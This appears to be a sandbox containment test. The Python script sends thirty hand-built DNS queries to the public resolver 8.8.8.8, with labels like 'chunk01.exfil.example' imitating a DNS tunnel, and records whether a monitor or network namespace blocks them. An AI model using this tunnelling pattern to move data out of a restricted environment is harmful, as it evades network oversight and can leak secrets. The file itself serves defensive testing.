# category: network
# expect: caught
# goal: DNS queries over UDP to a public resolver (8.8.8.8:53), thirty of them
#       as a DNS tunnel would send, and get an answer
import socket
import struct
import hostile as h

h.bound(6)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.2)
errors = {}
for i in range(30):
    name = b"".join(bytes([len(p)]) + p for p in [b"chunk%02d" % i, b"exfil", b"example"]) + b"\0"
    query = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    try:
        s.sendto(query, ("8.8.8.8", 53))
        s.recvfrom(512)
        h.achieved("a DNS answer came back")
    except socket.timeout:
        errors["timeout"] = errors.get("timeout", 0) + 1
    except OSError as e:
        errors[h.ename(e.errno)] = errors.get(h.ename(e.errno), 0) + 1
layer = "monitor" if "EPERM" in errors else "namespace"
h.blocked(layer, "30 queries: %s" % errors)
